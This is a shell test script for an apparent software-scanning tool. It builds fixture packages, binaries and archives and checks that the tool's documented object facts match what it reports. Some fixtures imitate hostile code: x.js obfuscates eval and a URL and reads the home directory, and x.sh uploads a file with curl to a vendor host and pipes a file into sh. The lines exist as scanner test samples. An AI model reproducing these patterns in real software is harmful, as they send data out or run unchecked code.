# bindings/FACTS.md is what the types for editors say, and these say what facts of real objects look like: each fact that appears is
# described, with its type, and each one that is described appears.
. tests/tap.sh
ok "the page is what its source says" "$here/tests/fact_docs.py" --check
mkdir -p "$scratch/tree/tests" && cp -r "$here/bindings" "$scratch/tree/" && cp "$here/tests/fact_docs.py" "$scratch/tree/tests/"
docs=$scratch/tree/tests/fact_docs.py
sed -i 's/What map keeps of an object/What stays of an object/' "$scratch/tree/bindings/types/facts.lua"
status "a text that was changed is noticed" 1 "$docs" --check
like "... and what to do about it" "$err" 'run "make docs"'
ok "it is written again" "$docs"
ok "... and then agrees" "$docs" --check

# --- all places and types that the facts of objects have
data=$scratch/data
mkdir -p "$data/scripts/integrity" "$scratch/more"
cp -r "$here/rulesets" "$data/"
cat >"$data/scripts/integrity/told.lua" <<'LUA'
local function walk(found, o, place, value, seen)
  local line = place .. " " .. (math.type(value) == "float" and "number" or math.type(value) or type(value))
  if type(value) ~= "table" then
    if not seen[line] then
      seen[line] = true
      found.told { key = line, object = o, line }
    end
    return
  end
  for key, one in pairs(value) do
    local step = type(key) == "number" and "[]" or key:find("^[%a_][%w_]*$") and "." .. key or ".{}"
    walk(found, o, place .. step, one, seen)
  end
end
return {
  title = "What is told", why = "A test.", claim = "permissions", severity = "low", reliability = "parsed", applies = { "any" },
  findings = { told = { says = "%s", fix = "None." } }, maps = { "paris:P6" }, samples = { hit = { "a" }, clean = { "b" } },
  object = function(object, found) walk(found, nil, "object", object.facts, {}) end,
  product = function(product, found)
    local seen = {}
    for o in product:objects() do walk(found, o, "o", o.facts, seen) end
  end,
}
LUA

# What the samples have not: machine code, metadata of each sort, a text with all that a text can have.
cd "$scratch/more" || exit 1
mkdir -p in/x.dist-info in/META-INF in/DEBIAN tiny
cp /bin/true in/twin
printf 'a' >tiny/one
ln -s ../outside tiny/link
tar -cf tiny.tar tiny
cat >in/package.json <<'JSON'
{"name":"x","version":"1.0.0","description":"d","license":"MIT","repository":"https://example.org/x.git","homepage":"https://x.example.org",
 "author":"A <a@b.org>","main":"x.js","bugs":"https://b.example.org","keywords":["k"],"maintainers":["m"],"dependencies":{"y":"1"},
 "scripts":{"test":"true"},"bin":{"x":"x.js"}}
JSON
printf 'const a = require("./other");\nfetch("http://plain.vendor-host.net/api");\n// http://10.0.0.1/\n' >in/x.js
printf 'eval(atob("YWxlcnQoMSk=")); require(y); f(process.env.HOME, "ht" + "tp://j.vendor-host.net/x", "aGlkZGVuISE=".split("").reverse().join(""));\n' >>in/x.js
printf '#!/bin/sh\ncurl -T - http://plain.vendor-host.net/api <words.txt\nsh <words.txt\n' >in/x.sh
printf '# SPDX-License-Identifier: GPL-2.0-only\nimport socket\nsocket.create_connection(("a", 1))\n' >in/x.py
printf 'Metadata-Version: 2.1\nName: x\nVersion: 1\nSummary: s\nLicense: MIT\nAuthor: A\nAuthor-email: a@b.org\nHome-page: https://x.org\nKeywords: a,b\nClassifier: Topic :: Internet\nRequires-Dist: y\nProject-URL: S, https://s.org\nX-Other: z\n' >in/x.dist-info/METADATA
printf 'x.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,0\nx.dist-info/RECORD,,\n' >in/x.dist-info/RECORD
printf 'Manifest-Version: 1.0\r\nImplementation-Title: x\r\n\r\n' >in/META-INF/MANIFEST.MF
printf 'Package: x\nVersion: 1\nArchitecture: all\nMaintainer: A <a@b.org>\nSection: net\nPriority: optional\nHomepage: https://x.org\nDepends: y\nInstalled-Size: 1\nDescription: d\n' >in/DEBIAN/control
"$here/tests/make_archives.py" in/made # one of each sort that has the fact `package`
printf 'name: x\nversion: 1\nsummary: s\ndescription: d\nlicense: MIT\nconfinement: strict\n' >in/snap.yaml
printf 'd41d8cd98f00b204e9800998ecf8427e  usr/x\n' >in/DEBIAN/md5sums
printf '%s  %05000d\n' d41d8cd98f00b204e9800998ecf8427e 0 >>in/DEBIAN/md5sums # too long for a path: left out, and told
printf '/etc/x.conf\n' >in/DEBIAN/conffiles
printf '{"bomFormat":"CycloneDX","specVersion":"1.5","components":[]}' >in/bom.json
printf 'Package: x\nStatus: install ok installed\nSource: y (2)\nVersion: 1\n' >in/status
printf 'version=1\ngroupId=g\nartifactId=a\n' >in/META-INF/pom.properties
printf 'x (1) unstable; urgency=low\n\n  * A.\n\n -- A <a@b.org>  Mon, 02 Jan 2012 10:00:00 +0000\n' >in/changelog
printf 'Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nLicense: odd-licence\n' >in/copyright
cat >note.s <<'S'
  .section .note.package, "a", @note
  .balign 4
  .long 4, 2f - 1f, 0xcafe1a7e
  .asciz "FDO"
1: .asciz "{\"type\":\"deb\",\"name\":\"x\"}"
2: .balign 4
S
printf 'int main(void) { return 0; }\n' >main.c
gcc -o in/note -Wl,-rpath,/opt/x,--enable-new-dtags main.c note.s && gcc -o in/old -Wl,-rpath,/opt/x,--disable-new-dtags main.c
/usr/bin/python3 - <<'PY'
import struct
head = struct.pack("<8I", 0xfeedfacf, 0x01000007, 3, 2, 1, 72, 0x200000, 0) # x86_64, a program that is position-independent
text = struct.pack("<2I16s4Q4I", 0x19, 72, b"__TEXT", 0x100000000, 4096, 0, 4096, 7, 5, 0, 0)
open("in/macho", "wb").write((head + text).ljust(4096, b"\0"))
PY
cat >x.spec <<'SPEC'
Name: x
Epoch: 1
Version: 1
Release: 1
Summary: s
License: MIT
URL: https://x.org
Vendor: A Vendor
Distribution: A Distribution
Packager: A <a@b.org>
Group: Applications/System
BuildArch: noarch
Requires: y
%description
d
%install
mkdir -p %{buildroot}/usr/bin && echo true >%{buildroot}/usr/bin/x && ln -s x %{buildroot}/usr/bin/link
mkdir -p %{buildroot}/etc && echo a >%{buildroot}/etc/x.conf
%post
true
%files
%attr(0755,root,root) %caps(cap_net_raw=p) /usr/bin/x
/usr/bin/link
%config /etc/x.conf
SPEC
rpmbuild --quiet --define "_topdir $PWD/rpm" -bb x.spec >rpm.log 2>&1 || flunk "rpmbuild" "$(tail -5 rpm.log)"
cp rpm/RPMS/noarch/*.rpm in/
head -c 700 x.spec >big && tar -cf - big big | head -c 1500 >in/torn.tar
(cd in && tar -czf ../x.tgz . && ln -s x.py link && tar -cf ../links.tar link x.py)

"$here/tests/samples/make-samples.sh" "$scratch/samples" >"$scratch/made" 2>&1 || flunk "samples are made" "$(tail -5 "$scratch/made")"
cd "$here" || exit 1
files=("$scratch"/more/*.t* "$scratch/more/in" "$scratch"/samples/*/*/*)
for dir in /usr/share/clamav-testfiles; do
  for name in clam.exe clam-v2.rar clam_ISmsi_int.exe clam-upx.exe; do [[ -f $dir/$name ]] && files+=("$dir/$name"); done
done
run env PROBITY_DATA="$data" "$PROBITY" scan -q -f json --no-cache --as-of 2026-11-21 --database "$scratch/db" "${files[@]}"
printf '%s\n' "$out" | /usr/bin/python3 -c '
import json, sys
for line in sys.stdin:
    if line.strip():
        print("\n".join(f["says"] for f in json.loads(line)["findings"]))' | sort -u >"$scratch/seen"
ok "there is much to hold against it" test "$(wc -l <"$scratch/seen")" -gt 250
ok "each fact of an object is described, with its type, and each described one is seen" "$here/tests/fact_docs.py" --fits "$scratch/seen"

# --- and what is wrong is noticed
wrong() { # NAME LINE REGEX
  printf '%s\n' "$2" | cat - "$scratch/seen" >"$scratch/changed"
  status "$1" 1 "$docs" --fits "$scratch/changed"
  like "... by its name" "$err" "$3"
}
wrong "a fact that is not described" "o.colour string" 'not described: o\.colour'
wrong "a field of one" "o.rpm.files[].colour string" 'not described: o\.rpm\.files\[\]\.colour'
wrong "another type" "o.entropy string" 'o\.entropy is a string, not integer'
wrong "one that only object checks see" "o.elf.type integer" 'not described: o\.elf\.type'
grep -v 'relro' "$scratch/seen" >"$scratch/fewer"
status "one that no object has" 1 "$docs" --fits "$scratch/fewer"
like "... by its name" "$err" 'in no object: Hardening\.relro'
done_testing
